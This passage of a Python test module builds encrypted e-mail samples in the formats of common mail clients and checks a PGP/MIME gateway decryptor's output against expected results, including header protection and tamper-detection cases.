# SPDX-License-Identifier: MIT
"""A corpus of encrypted e-mail for testing a MIME-aware gateway decryptor
(`pgpdecd-client --mime`, pgpdecd-milter), with what a correct decryptor
must deliver for each mail, and a checker that compares a delivered message
with that, part by part.

Every mail is built at run time with real gpg (GnuPG 2.2: SEIPD v1 with MDC)
and laid out after what the mail clients write:

  Thunderbird 115 (mail/extensions/openpgp/content/modules/mimeEncrypt.jsm):
      CRLF; outer Subject "..."; preamble "This is an OpenPGP/MIME encrypted
      message (RFC 4880 and 3156)"; part 1 application/pgp-encrypted with
      Content-Description "PGP/MIME version identification", "Version: 1";
      part 2 application/octet-stream; name="encrypted.asc", Content-Description
      "OpenPGP encrypted message", Content-Disposition inline;
      filename="encrypted.asc"; the inner entity is multipart/mixed;
      protected-headers="v1" followed by From, To, Message-ID, Subject.
      Thunderbird 115 writes no legacy display part.
  Enigmail 2.x (the "protected headers" draft): a legacy display part
      text/rfc822-headers; protected-headers="v1" first in the inner
      multipart/mixed, which the decryptor drops.
  Mutt 2.x ($crypt_protected_headers_write): the protected Subject goes into
      the headers of the inner entity itself (text/plain or multipart/mixed)
      with protected-headers="v1"; outer Subject "...".
  Evolution / KMail: inner multipart/alternative (text/plain + text/html).
  K-9 / FairEmail: inner multipart/mixed; protected-headers="v1"; outer
      Subject "...".
  Delta Chat: Autocrypt: header outside; outer Subject "[...]"; inner
      multipart/mixed; protected-headers="v1" with Chat-Version and the real
      Subject, From, To, Date, Message-ID.
  RFC 9788 (hcp_baseline): inner Content-Type with hp="cipher", the real
      header fields plus HP-Outer: fields naming the outer ones; a legacy
      display element (text/plain; hp-legacy-display="1") as first child of
      the inner multipart/mixed, which the decryptor drops; outer Subject
      "[...]" and an outer Message-ID other than the inner one.

What "expected" means (the decryptor's contract):
  * the whole-body rule (EFAIL): a multipart/encrypted or an armored text
    block is decrypted only when it is its message's whole body (the
    mail's, or that of a message/rfc822 that is itself the whole body);
    inside any multipart it is left as it is and counted as embedded
    (X-Pgpdecd-Status "embedded=N"; outcome "embedded" when nothing else
    was encrypted, "partly-decrypted" when other pieces were decrypted);
    encrypted attachments are decrypted wherever they are;
  * a multipart/encrypted is replaced by the decrypted entity; at the top its
    Content-* headers become the message's;
  * an armored block in a text part is replaced in place by its plaintext:
    the block is the text from the start of the "-----BEGIN PGP MESSAGE-----"
    line to the end of the "-----END PGP MESSAGE-----" line INCLUDING that
    line's line break; the text before and after is kept, the part keeps its
    charset (its transfer encoding may change);
  * an encrypted attachment (.pgp/.gpg/.asc) becomes a part with the
    plaintext, filename without the suffix; its content type is any of
    Leaf.ctypes (application/octet-stream is always accepted);
  * multipart/signed entities are kept as they are (signed_entity below);
  * legacy display parts are dropped;
  * default header policy: the protected Subject replaces the outer one;
    policy "all": every protected header field replaces the outer ones;
  * result headers X-Pgpdecd-Status / -Key / -Integrity / -Signatures
    (Expected.result_headers()); incoming X-Pgpdecd-* fields are removed.
  * X-Pgpdecd-Key names the key the daemon reports for the piece: the
    fingerprint of the decryption subkey (KEY_FPR), as `pgpdecd-client -v`
    prints it.

API:
  corpus = Corpus()               # temp GNUPGHOMEs, keys; .close() at the end
  corpus.cases()                  # every Case (cached)
  corpus.case(name)
  corpus.large_mail(path, total_size, attachment_size)   # streamed to path
  check_delivered(case, delivered, failure_policy="pass", header_policy="default")
  render_ideal(case, header_policy="default")            # a correct output
  find_pieces(raw)                # the ciphertexts in a mail, in order
  KEY_FPR, PRIMARY_FPR            # of tests/data/keys/rsa2048.gpg (via gpg)

Case: .name, .raw (bytes; None for a large mail, then .path), .expected,
.pieces (list of Piece: what find_pieces(raw) yields and what each
decrypts to), .layout (a one-line description).
"""

import base64
import codecs
import hashlib
import os
import quopri
import random
import re
import shutil
import subprocess
import tempfile
import threading
from dataclasses import dataclass, field
from email import policy as email_policy
from email.parser import BytesParser
from pathlib import Path
from typing import Optional, Union

import pgp

SRC = Path(__file__).resolve().parents[2]
KEYS_DIR = SRC / "tests" / "data" / "keys"
SECRET_KEY = KEYS_DIR / "rsa2048.gpg"
PUBLIC_KEY = KEYS_DIR / "rsa2048-public.gpg"

ARMOR_BEGIN = "-----BEGIN PGP MESSAGE-----"
ARMOR_END = "-----END PGP MESSAGE-----"
ARMOR_RE = re.compile(r"^-----BEGIN PGP MESSAGE-----\r?\n.*?^-----END PGP MESSAGE-----[ \t]*(?:\r?\n|$)",
                      re.M | re.S)
MTA_HEADERS = {"received", "return-path", "delivered-to", "x-original-to"}
RESULT_HEADERS = ("x-pgpdecd-status", "x-pgpdecd-key", "x-pgpdecd-integrity",
                  "x-pgpdecd-signatures")
# Header fields of an inner entity that are not protected headers to copy.
NOT_PROTECTED = {"hp-outer", "autocrypt-gossip", "mime-version"}
# What protected headers may replace with policy "all": the fields a reader
# sees or replies with; never trace or gateway fields (Received,
# Authentication-Results...), nor fields like Chat-Version, which stay inside.
PROMOTABLE = {"subject", "from", "sender", "reply-to", "to", "cc", "date", "message-id",
              "in-reply-to", "references", "keywords", "comments"}


# --------------------------------------------------------------------------
# The expected result

@dataclass
class Leaf:
    """A non-multipart part.  ctypes: the acceptable content types (the
    first is what render_ideal writes).  Text parts: text (str, compared
    with line endings normalized) and charset.  Others: data (bytes, exact)
    or sha256 + size (large parts)."""
    ctypes: tuple
    text: Optional[str] = None
    charset: Optional[str] = None
    data: Optional[bytes] = None
    sha256: Optional[str] = None
    size: Optional[int] = None
    filename: Optional[str] = None
    decrypted: bool = False     # came out of a decryption: no armor may remain


@dataclass
class Multi:
    """A multipart.  signed_entity: for multipart/signed, the raw first part
    (headers and body) that must reach the MUA unchanged (line endings
    aside)."""
    ctype: str
    children: list
    signed_entity: Optional[bytes] = None


@dataclass
class Rfc822:
    """A message/rfc822 part: the embedded message's header fields to check
    (name -> value) and its body."""
    headers: dict
    body: Union[Leaf, Multi]


Node = Union[Leaf, Multi, Rfc822]


@dataclass
class Expected:
    outcome: str                   # decrypted partly-decrypted not-encrypted no-key failed embedded
    pieces: int = 0
    decrypted: int = 0
    no_key: int = 0
    failed: int = 0
    embedded: int = 0              # left encrypted: not its message's whole body
    status: Optional[str] = None   # INTEGRITY, MALFORMED ... of the first failed piece, else NO_KEY/NO_PASSWORD
    keys: tuple = ()
    integrity: Optional[str] = None  # "mdc", "aead", "mdc, aead"
    body: Optional[Node] = None    # the delivered body tree
    unchanged: bool = False        # the body is the original one, byte-exact
    protected: dict = field(default_factory=dict)  # protected header fields (name -> value)

    def result_headers(self):
        """The result header fields, in order, as (name, value)."""
        if self.outcome == "not-encrypted":
            return [("X-Pgpdecd-Status", "not-encrypted")]
        v = (f"{self.outcome}; pieces={self.pieces}; decrypted={self.decrypted}; "
             f"no-key={self.no_key}; failed={self.failed}")
        if self.embedded:
            v += f"; embedded={self.embedded}"
        if self.status:
            v += f"; status={self.status}"
        h = [("X-Pgpdecd-Status", v)]
        h += [("X-Pgpdecd-Key", k) for k in self.keys]
        if self.integrity:
            h.append(("X-Pgpdecd-Integrity", self.integrity))
        if self.decrypted:
            h.append(("X-Pgpdecd-Signatures", "not-verified"))
        return h

    def exit_code(self, failure_policy="pass"):
        """0 when delivered, 65 (EX_DATAERR; SMTP 5xx) when rejected."""
        return 65 if self.failed and failure_policy == "reject" else 0


@dataclass
class Piece:
    """One encrypted piece as find_pieces() finds it: kind (pgp-mime,
    inline, attachment), the ciphertext octets, and the plaintext it
    decrypts to with the test key (None when it must not decrypt: error
    says why: no-key, password, integrity, malformed)."""
    kind: str
    ciphertext: bytes
    plaintext: Optional[bytes]
    error: Optional[str] = None
    embedded: bool = False     # not its message's whole body: left encrypted (set by _mk)


@dataclass
class Case:
    name: str
    raw: Optional[bytes]
    expected: Expected
    pieces: list
    layout: str = ""
    path: Optional[Path] = None    # large mails: the file

    def read(self):
        return self.raw if self.raw is not None else self.path.read_bytes()


# --------------------------------------------------------------------------
# gpg

def _run(cmd, input=None, env=None, check=True):
    p = subprocess.run([str(c) for c in cmd], input=input, env=env, capture_output=True,
                       timeout=300)
    if check and p.returncode != 0:
        raise RuntimeError(f"{' '.join(map(str, cmd))}: rc {p.returncode}: "
                           f"{p.stderr.decode(errors='replace')[-1500:]}")
    return p


class Gpg:
    """gpg in its own GNUPGHOME."""

    def __init__(self, home):
        self.home = Path(home)
        self.home.mkdir(mode=0o700, parents=True, exist_ok=True)
        (self.home / "gpg.conf").write_text("no-auto-key-locate\ntrust-model always\n")
        (self.home / "gpg-agent.conf").write_text("allow-loopback-pinentry\n")
        self.env = dict(os.environ, GNUPGHOME=str(self.home), LC_ALL="C.UTF-8")

    def cmd(self, *args):
        return ["gpg", "--homedir", str(self.home), "--batch", "--yes", "--no-tty",
                "--pinentry-mode", "loopback", *args]

    def __call__(self, *args, input=None, check=True, passphrase=""):
        return _run(self.cmd("--passphrase", passphrase, *args), input=input, env=self.env,
                    check=check)

    def close(self):
        subprocess.run(["gpgconf", "--kill", "all"], env=self.env,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def _colons(out):
    return [l.split(":") for l in out.decode().splitlines()]


def key_fingerprints(keyfile=SECRET_KEY):
    """(primary fingerprint, [encryption subkey fingerprints]) of a key file,
    computed with gpg --show-keys."""
    with tempfile.TemporaryDirectory() as d:
        g = Gpg(Path(d) / "h")
        try:
            rows = _colons(g("--with-colons", "--show-keys", str(keyfile)).stdout)
        finally:
            g.close()
    primary, enc, cur = None, [], None
    for r in rows:
        if r[0] in ("pub", "sec", "sub", "ssb"):
            cur = r
        elif r[0] == "fpr":
            if cur[0] in ("pub", "sec") and primary is None:
                primary = r[9]
            if "e" in cur[11]:
                enc.append(r[9])
    return primary.upper(), [e.upper() for e in enc]


_fprs = key_fingerprints()
PRIMARY_FPR = _fprs[0]
KEY_FPR = _fprs[1][0]


# --------------------------------------------------------------------------
# Encodings (the mail text is built with LF; crlf() converts a whole mail)

def crlf(b: bytes) -> bytes:
    return b.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def lf(b: bytes) -> bytes:
    return b.replace(b"\r\n", b"\n")


def b64(data: bytes) -> bytes:
    s = base64.b64encode(data)
    return b"".join(s[i:i + 76] + b"\n" for i in range(0, len(s), 76))


def qp(data: bytes) -> bytes:
    out = quopri.encodestring(data)
    return out if out.endswith(b"\n") else out + b"=\n"


def encode_body(data: bytes, cte: str) -> bytes:
    if cte == "base64":
        return b64(data)
    if cte == "quoted-printable":
        return qp(data)
    return data if data.endswith(b"\n") else data + b"\n"


def armor(data: bytes) -> bytes:
    """ASCII armor (RFC 4880 6.2) of a binary OpenPGP message: pgp.armor's
    defaults (64 columns, CRC24 line, LF)."""
    return pgp.armor(data)


def _packets(data: bytes):
    """(tag, header offset, body offset, body length of the first chunk)."""
    i = 0
    while i < len(data):
        c = data[i]
        if not c & 0x80:
            raise ValueError(f"bad packet header at {i}")
        if c & 0x40:
            tag, j = c & 0x3F, i + 1
            o = data[j]
            if o < 192:
                n, j = o, j + 1
            elif o < 224:
                n, j = ((o - 192) << 8) + data[j + 1] + 192, j + 2
            elif o == 255:
                n, j = int.from_bytes(data[j + 1:j + 5], "big"), j + 5
            else:
                yield tag, i, j + 1, 1 << (o & 0x1F)
                return      # partial lengths: the first chunk only
        else:
            tag, lt, j = (c >> 2) & 0xF, c & 3, i + 1
            if lt == 3:
                yield tag, i, j, len(data) - j
                return
            w = (1, 2, 4)[lt]
            n, j = int.from_bytes(data[j:j + w], "big"), j + w
        yield tag, i, j, n
        i = j + n


def tamper(binary: bytes) -> bytes:
    """Flip one octet in the middle of the SEIPD v1 body (past the CFB
    prefix): the MDC check fails (gpg: "encrypted message has been
    manipulated"; pgpdecd: INTEGRITY)."""
    for tag, _h, body, n in _packets(binary):
        if tag == 18:
            assert binary[body] == 1, "not a SEIPD v1 packet"
            assert n > 64, "SEIPD body too short to tamper with"
            k = body + max(40, n // 2)
            b = bytearray(binary)
            b[k] ^= 0x20
            return bytes(b)
    raise ValueError("no SEIPD packet")


# --------------------------------------------------------------------------
# Trees from parsed MIME

def parse(raw: bytes):
    return BytesParser(policy=email_policy.default).parsebytes(raw)


def _charset_name(cs):
    try:
        return codecs.lookup(cs).name
    except (LookupError, TypeError):
        return (cs or "").lower()


def _ctype_param(part, name):
    return part.get_param(name, header="content-type")


def is_legacy_display(part) -> bool:
    ct = part.get_content_type()
    if ct == "text/rfc822-headers" and _ctype_param(part, "protected-headers"):
        return True
    return ct == "text/plain" and _ctype_param(part, "hp-legacy-display") == "1"


def tree_of(part, drop_legacy=False, decrypted=False, raw=None) -> Node:
    """The expected tree of a parsed part, as it is.  raw: the octets it was
    parsed from (a multipart/signed in it gets its signed_entity)."""
    ct = part.get_content_type()
    if part.is_multipart():
        kids = [c for c in part.iter_parts()] if ct != "message/rfc822" else None
        if ct == "message/rfc822":
            inner = part.get_payload()[0]
            hdrs = {k: str(v) for k, v in inner.items() if not k.lower().startswith("content-")}
            return Rfc822(hdrs, tree_of(inner, drop_legacy, decrypted, raw))
        if drop_legacy:
            kids = [c for c in kids if not is_legacy_display(c)]
        node = Multi(ct, [tree_of(c, drop_legacy, decrypted, raw) for c in kids])
        if ct == "multipart/signed":
            node.signed_entity = _first_signed_part(raw if raw is not None else part.as_bytes(),
                                                    part.get_boundary() or "")
        return node
    data = part.get_payload(decode=True) or b""
    fn = part.get_filename()
    if part.get_content_maintype() == "text":
        cs = part.get_content_charset() or "us-ascii"
        return Leaf((ct,), text=data.decode(cs), charset=cs, filename=fn, decrypted=decrypted)
    return Leaf((ct,), data=data, filename=fn, decrypted=decrypted)


def protected_headers(entity) -> dict:
    """Header fields of a decrypted entity that are protected headers."""
    return {k: str(v) for k, v in entity.items()
            if not k.lower().startswith("content-") and k.lower() not in NOT_PROTECTED}


# --------------------------------------------------------------------------
# Finding the encrypted pieces of a mail (for the self-test; not a decryptor)

ENC_SUFFIXES = (".pgp", ".gpg", ".asc")


def find_pieces(raw: bytes, places=False):
    """[(kind, ciphertext bytes)] in document order: the octet-stream of
    each multipart/encrypted, each armored block of each text part,
    each .pgp/.gpg/.asc attachment.  places=True: [(kind, ciphertext,
    whole)], whole telling whether the piece is its message's whole body
    (the whole-body rule, below)."""
    out = []

    def walk(p, whole):
        ct = p.get_content_type()
        if ct == "multipart/encrypted":
            kids = list(p.iter_parts())
            out.append(("pgp-mime", kids[1].get_payload(decode=True), whole))
            return
        if ct == "multipart/signed":
            return
        if ct == "message/rfc822":
            walk(p.get_payload()[0], whole)
            return
        if p.is_multipart():
            for c in p.iter_parts():
                walk(c, False)
            return
        fn = p.get_filename() or ""
        if fn.lower().endswith(ENC_SUFFIXES) and ct != "application/pgp-signature":
            out.append(("attachment", p.get_payload(decode=True), True))
            return
        if p.get_content_maintype() == "text":
            cs = p.get_content_charset() or "us-ascii"
            text = (p.get_payload(decode=True) or b"").decode(cs)
            for m in ARMOR_RE.finditer(text):
                out.append(("inline", m.group(0).encode("ascii"), whole))

    walk(parse(raw), True)
    return out if places else [(k, c) for k, c, _ in out]


EXT_TYPES = {".pdf": ("application/pdf",), ".csv": ("text/csv", "text/plain"),
             ".txt": ("text/plain",), ".bin": ()}


def _decrypted_name(fn):
    return fn[:-4] if fn and fn.lower().endswith(ENC_SUFFIXES) else fn


def expected_body(raw: bytes, plain_of: dict):
    """The body tree a correct decryptor delivers for raw, given the
    plaintext of each ciphertext it can decrypt (plain_of: ciphertext ->
    plaintext; a ciphertext not in it stays as it is).  The whole-body
    rule: a multipart/encrypted or inline block is decrypted only when it
    is its message's whole body (the mail's, or a message/rfc822's that is
    itself the whole body); inside any multipart it stays as it is.
    Returns (tree, protected header fields of a top-level decrypted
    entity)."""
    prot = {}

    def walk(p, top=False, whole=True):
        nonlocal prot
        ct = p.get_content_type()
        if ct == "multipart/encrypted":
            kids = list(p.iter_parts())
            plain = plain_of.get(kids[1].get_payload(decode=True)) if whole else None
            if plain is None:
                return tree_of(p, raw=raw)
            ent = parse(plain)
            if top:
                prot = protected_headers(ent)
            return tree_of(ent, drop_legacy=True, decrypted=True, raw=plain)
        if ct == "message/rfc822":
            inner = p.get_payload()[0]
            hdrs = {k: str(v) for k, v in inner.items() if not k.lower().startswith("content-")}
            return Rfc822(hdrs, walk(inner, whole=whole))
        if ct == "multipart/signed":
            return tree_of(p, raw=raw)
        if p.is_multipart():
            return Multi(ct, [walk(c, whole=False) for c in p.iter_parts()])
        fn = p.get_filename()
        data = p.get_payload(decode=True) or b""
        if fn and fn.lower().endswith(ENC_SUFFIXES) and data in plain_of:
            name = _decrypted_name(fn)
            ext = os.path.splitext(name)[1].lower()
            return Leaf(EXT_TYPES.get(ext, ()) + ("application/octet-stream",), data=plain_of[data],
                        filename=name, decrypted=True)
        node = tree_of(p, raw=raw)
        if node.text is not None and whole:
            hit = []

            def sub(m):
                pl = plain_of.get(m.group(0).encode("ascii"))
                if pl is None:
                    return m.group(0)
                hit.append(1)
                return pl.decode(node.charset)
            node.text = ARMOR_RE.sub(sub, node.text)
            # "decrypted": no armor may remain (a foreign key's block does)
            node.decrypted = bool(hit) and not ARMOR_RE.search(node.text)
        return node

    return walk(parse(raw), top=True), prot


# --------------------------------------------------------------------------
# The corpus

HDR_FROM = "Alice Sender <alice@example.org>"
HDR_TO = "Bob Gateway <bob@example.net>"
DATE = "Tue, 03 Dec 2024 10:15:00 +0100"
SUBJECT = "Quarterly audit \u2013 draft 3"

BODY_EN = "Hello Bob,\n\nthe audit figures are attached.\n\n-- \nAlice\n"
BODY_UTF8 = "Gr\u00fc\u00dfe aus K\u00f6ln \u2013 caf\u00e9 \u20ac 42\nzweite Zeile\n"
BODY_LATIN1 = "Gr\u00fc\u00dfe aus K\u00f6ln, caf\u00e9 \u00bd \u00a3 5\nzweite Zeile\n"
HTML = ("<html><head></head><body><p>Hello Bob,</p><p>the audit figures are "
        "<b>attached</b>.</p></body></html>\n")


class Corpus:
    """Builds the cases.  Two GNUPGHOMEs under workdir: the sender's (the
    test certificate imported, Alice's throwaway key generated: it signs,
    and is the "foreign key") and the daemon's (the test secret key: used
    by the self-test to decrypt).  close() stops their agents."""

    def __init__(self, workdir=None):
        self._tmp = None
        if workdir is None:
            self._tmp = tempfile.mkdtemp(prefix="mailcorpus-")
            workdir = self._tmp
        self.dir = Path(workdir)
        self.sender = Gpg(self.dir / "sender")
        self.daemon = Gpg(self.dir / "daemon")
        self.sender("--import", str(PUBLIC_KEY))
        self.daemon("--import", str(SECRET_KEY))
        self.sender("--quick-gen-key", "Alice Sender <alice@example.org>", "ed25519",
                    "cert,sign", "never")
        rows = _colons(self.sender("--with-colons", "--list-keys", "alice@example.org").stdout)
        self.alice_fpr = next(r[9] for r in rows if r[0] == "fpr")
        self.sender("--quick-add-key", self.alice_fpr, "cv25519", "encr", "never")
        self.rnd = random.Random(3156)
        self._cases = None
        self._n = 0

    def close(self):
        self.sender.close()
        self.daemon.close()
        if self._tmp:
            shutil.rmtree(self._tmp, ignore_errors=True)

    # -- encryption helpers

    def encrypt(self, data: bytes, armored=True, to=None, sign=False, extra=()) -> bytes:
        """gpg --encrypt to the test key (or to=[fpr...]); from a file so
        that gpg writes a definite length."""
        self._n += 1
        f = self.dir / f"p{self._n}"
        f.write_bytes(data)
        args = ["--armor"] if armored else []
        for r in (to or [KEY_FPR + "!"]):
            args += ["-r", r]
        if sign:
            args += ["--sign", "-u", self.alice_fpr]
        out = self.sender(*args, *extra, "--encrypt", "-o", "-", str(f)).stdout
        f.unlink()
        return out

    def symmetric(self, data: bytes) -> bytes:
        return self.sender("--armor", "--symmetric", "-o", "-", input=data,
                           passphrase="correct horse").stdout

    def boundary(self, tag="b"):
        return f"{tag}{self.rnd.getrandbits(64):016x}"

    # -- the expectation of a mail, from what its pieces decrypt to

    def _mk(self, name, raw, pieces, layout):
        """A Case for raw: pieces are what was encrypted, in document order
        (plaintext None when the test key cannot or must not decrypt it);
        their ciphertexts are replaced by what find_pieces() extracts."""
        found = find_pieces(raw, places=True)
        if len(found) != len(pieces):
            raise AssertionError(f"{name}: {len(found)} pieces found, {len(pieces)} built")
        for (kind, c, whole), p in zip(found, pieces):
            if kind != p.kind or lf(c).strip() != lf(p.ciphertext).strip():
                raise AssertionError(f"{name}: piece {p.kind} not found as built")
            p.ciphertext = c
            p.embedded = not whole
        embedded = sum(p.embedded for p in pieces)
        all_pieces, pieces = pieces, [p for p in pieces if not p.embedded]
        plain_of = {p.ciphertext: p.plaintext for p in pieces if p.plaintext is not None}
        body, prot = expected_body(raw, plain_of)
        dec = sum(p.plaintext is not None for p in pieces)
        nokey = sum(p.error in ("no-key", "password") for p in pieces)
        failed = len(pieces) - dec - nokey
        # status names the first failed piece; when none failed, the first
        # piece no key opened (NO_KEY, or NO_PASSWORD for a password-only one)
        status = next((p.error.upper() for p in pieces
                       if p.plaintext is None and p.error not in ("no-key", "password")), None)
        if status is None:
            status = next(({"no-key": "NO_KEY", "password": "NO_PASSWORD"}[p.error]
                           for p in pieces if p.plaintext is None), None)
        if not pieces:
            outcome = "embedded" if embedded else "not-encrypted"
        elif dec == len(pieces):
            outcome = "partly-decrypted" if embedded else "decrypted"
        elif dec:
            outcome = "partly-decrypted"
        elif failed:
            outcome = "failed"
        else:
            outcome = "no-key"
        exp = Expected(outcome, pieces=len(pieces), decrypted=dec, no_key=nokey, failed=failed,
                       embedded=embedded, status=status, keys=(KEY_FPR,) if dec else (),
                       integrity="mdc" if dec else None, body=body, unchanged=not dec,
                       protected=prot)
        return Case(name, raw, exp, all_pieces, layout)

    # -- building blocks

    def pgp_mime(self, inner: bytes, cte="7bit", thunderbird=False, sign=False,
                 boundary=None):
        """(Content-Type header block, body) of a multipart/encrypted."""
        b = boundary or self.boundary("enc")
        ct = armored = self.encrypt(inner, sign=sign)
        if cte == "base64":
            body, ctl = b64(ct), "Content-Transfer-Encoding: base64\n"
        elif cte == "quoted-printable":
            body, ctl = qp(ct), "Content-Transfer-Encoding: quoted-printable\n"
        else:
            body, ctl = ct, ("Content-Transfer-Encoding: 7bit\n" if cte == "7bit-explicit" else "")
        head = (f'Content-Type: multipart/encrypted;\n protocol="application/pgp-encrypted";\n'
                f' boundary="{b}"\n')
        if thunderbird:
            pre = "This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)\n"
            p1 = ("Content-Type: application/pgp-encrypted\n"
                  "Content-Description: PGP/MIME version identification\n")
            p2 = ('Content-Type: application/octet-stream; name="encrypted.asc"\n'
                  "Content-Description: OpenPGP encrypted message\n"
                  'Content-Disposition: inline; filename="encrypted.asc"\n')
        else:
            pre = ""
            p1 = "Content-Type: application/pgp-encrypted\n"
            p2 = "Content-Type: application/octet-stream\n"
        body = (f"{pre}--{b}\n{p1}\nVersion: 1\n\n--{b}\n{p2}{ctl}\n").encode() + body + \
            f"\n--{b}--\n".encode()
        return head.encode(), body, armored

    @staticmethod
    def _pgp_mime_around(b, ciphertext: bytes) -> bytes:
        """Content-Type and body of a plain multipart/encrypted (boundary b)
        around ciphertext as given (pgp_mime() encrypts for itself)."""
        return (f'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted";\n'
                f' boundary="{b}"\n\n--{b}\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n'
                f"--{b}\nContent-Type: application/octet-stream\n\n").encode() + ciphertext + \
            f"\n--{b}--\n".encode()

    @staticmethod
    def headers(subject=SUBJECT, extra="", msgid="<corpus.1@example.org>",
                frm=HDR_FROM, to=HDR_TO):
        from email.header import Header
        subj = Header(subject, "utf-8").encode() if not subject.isascii() else subject
        return (f"From: {frm}\nTo: {to}\nDate: {DATE}\nSubject: {subj}\n"
                f"Message-ID: {msgid}\n{extra}MIME-Version: 1.0\n").encode()

    def _pgp_mime_case(self, name, layout, inner: bytes, outer_extra="", subject="...",
                       cte="7bit", thunderbird=False, sign=False, line_ending="lf",
                       msgid="<corpus.1@example.org>"):
        head, body, ct = self.pgp_mime(inner, cte=cte, thunderbird=thunderbird, sign=sign)
        raw = self.headers(subject=subject, extra=outer_extra, msgid=msgid) + head + b"\n" + body
        if line_ending == "crlf":
            raw = crlf(raw)
        return self._mk(name, raw, [Piece("pgp-mime", ct, inner)], layout)

    # -- PGP/MIME as the clients write it

    def thunderbird(self):
        b = self.boundary("------------")
        inner = crlf((f'Content-Type: multipart/mixed; boundary="{b}";\n protected-headers="v1"\n'
                      f"From: {HDR_FROM}\nTo: {HDR_TO}\nMessage-ID: <corpus.1@example.org>\n"
                      f"Subject: Quarterly audit\n\n"
                      f"--{b}\nContent-Type: text/plain; charset=UTF-8; format=flowed\n"
                      f"Content-Transfer-Encoding: 8bit\n\n{BODY_UTF8}\n--{b}--\n").encode())
        return self._pgp_mime_case("thunderbird", "Thunderbird 115 PGP/MIME, protected headers, CRLF",
                                   inner, thunderbird=True, line_ending="crlf",
                                   outer_extra="User-Agent: Mozilla Thunderbird\n")

    def thunderbird_attachment(self):
        b = self.boundary("------------")
        pdf = self.pdf_bytes()
        inner = crlf((f'Content-Type: multipart/mixed; boundary="{b}";\n protected-headers="v1"\n'
                      f"From: {HDR_FROM}\nTo: {HDR_TO}\nMessage-ID: <corpus.1@example.org>\n"
                      f"Subject: Audit with attachment\n\n"
                      f"--{b}\nContent-Type: text/plain; charset=UTF-8; format=flowed\n"
                      f"Content-Transfer-Encoding: 7bit\n\n{BODY_EN}\n"
                      f'--{b}\nContent-Type: application/pdf; name="audit.pdf"\n'
                      f'Content-Disposition: attachment; filename="audit.pdf"\n'
                      f"Content-Transfer-Encoding: base64\n\n").encode() + b64(pdf)
                     + f"\n--{b}--\n".encode())
        return self._pgp_mime_case("thunderbird-attachment",
                                   "Thunderbird 115 PGP/MIME with a PDF attachment, base64 octet-stream",
                                   inner, thunderbird=True, line_ending="crlf", cte="base64")

    def enigmail_legacy(self):
        b = self.boundary("enig")
        inner = (f'Content-Type: multipart/mixed; boundary="{b}";\n protected-headers="v1"\n'
                 f"From: {HDR_FROM}\nTo: {HDR_TO}\nMessage-ID: <corpus.1@example.org>\n"
                 f"Subject: Legacy display subject\n\n"
                 f'--{b}\nContent-Type: text/rfc822-headers; protected-headers="v1"\n'
                 f"Content-Disposition: inline\n\nSubject: Legacy display subject\n\n"
                 f"--{b}\nContent-Type: text/plain; charset=us-ascii\n\n{BODY_EN}\n"
                 f"--{b}--\n").encode()
        return self._pgp_mime_case("enigmail-legacy-display",
                                   "Enigmail 2.x: text/rfc822-headers legacy display part (dropped)",
                                   crlf(inner), thunderbird=True)

    def mutt(self):
        inner = ('Content-Type: text/plain; charset=us-ascii; protected-headers="v1"\n'
                 "Content-Disposition: inline\n"
                 "Subject: Mutt protected subject\n\n" + BODY_EN).encode()
        return self._pgp_mime_case("mutt", "Mutt 2.x PGP/MIME, inner text/plain, protected Subject",
                                   inner, outer_extra="User-Agent: Mutt/2.2.12\n")

    def mutt_attachment(self):
        b = self.boundary("mutt")
        csv = self.csv_bytes()
        inner = (f'Content-Type: multipart/mixed; protected-headers="v1"; boundary="{b}"\n'
                 f"Content-Disposition: inline\nSubject: Mutt with attachment\n\n"
                 f"--{b}\nContent-Type: text/plain; charset=utf-8\n"
                 f"Content-Disposition: inline\nContent-Transfer-Encoding: 8bit\n\n{BODY_UTF8}\n"
                 f"--{b}\nContent-Type: text/csv; charset=us-ascii\n"
                 f'Content-Disposition: attachment; filename="figures.csv"\n\n').encode() + csv \
            + f"\n--{b}--\n".encode()
        return self._pgp_mime_case("mutt-attachment",
                                   "Mutt 2.x PGP/MIME, inner multipart/mixed with attachment, QP octet-stream",
                                   inner, cte="quoted-printable")

    def evolution(self):
        b = self.boundary("=-")
        inner = (f'Content-Type: multipart/alternative; boundary="{b}"\n\n'
                 f"--{b}\nContent-Type: text/plain; charset=\"UTF-8\"\n"
                 f"Content-Transfer-Encoding: quoted-printable\n\n").encode() + \
            qp(BODY_UTF8.encode()) + \
            (f"\n--{b}\nContent-Type: text/html; charset=\"utf-8\"\n"
             f"Content-Transfer-Encoding: 7bit\n\n{HTML}\n--{b}--\n").encode()
        return self._pgp_mime_case("evolution", "Evolution/KMail PGP/MIME, inner multipart/alternative",
                                   inner, subject=SUBJECT, outer_extra="X-Mailer: Evolution 3.46.4\n")

    def k9(self):
        b = self.boundary("----")
        inner = (f'Content-Type: multipart/mixed; boundary="{b}"; protected-headers="v1"\n'
                 f"Subject: K-9 protected subject\n\n"
                 f"--{b}\nContent-Type: text/plain; charset=utf-8\n"
                 f"Content-Transfer-Encoding: quoted-printable\n\n").encode() + \
            qp(BODY_UTF8.encode()) + f"\n--{b}--\n".encode()
        return self._pgp_mime_case("k9", "K-9/FairEmail PGP/MIME, multipart/mixed protected headers",
                                   crlf(inner), outer_extra="User-Agent: K-9 Mail for Android\n",
                                   line_ending="crlf")

    def deltachat(self):
        b = self.boundary("")
        cert = self.sender("--export", self.alice_fpr).stdout
        kd = base64.b64encode(cert).decode()
        kd = "\n ".join(kd[i:i + 76] for i in range(0, len(kd), 76))
        autocrypt = f"Autocrypt: addr=alice@example.org; prefer-encrypt=mutual; keydata=\n {kd}\n"
        inner = (f'Content-Type: multipart/mixed; boundary="{b}"; protected-headers="v1"\n'
                 f"Chat-Version: 1.0\nSubject: Delta group chat\nFrom: {HDR_FROM}\n"
                 f"To: {HDR_TO}\nDate: {DATE}\nMessage-ID: <Mr.corpus.1@example.org>\n\n"
                 f"--{b}\nContent-Type: text/plain; charset=utf-8\n\n{BODY_UTF8}\n"
                 f"--{b}--\n").encode()
        return self._pgp_mime_case("deltachat", "Delta Chat: Autocrypt, Chat-Version, Subject [...]",
                                   inner, subject="[...]", outer_extra=autocrypt,
                                   msgid="<Mr.corpus.1@example.org>")

    def rfc9788(self):
        b = self.boundary("hp")
        inner = (f'Content-Type: multipart/mixed; boundary="{b}"; hp="cipher"\n'
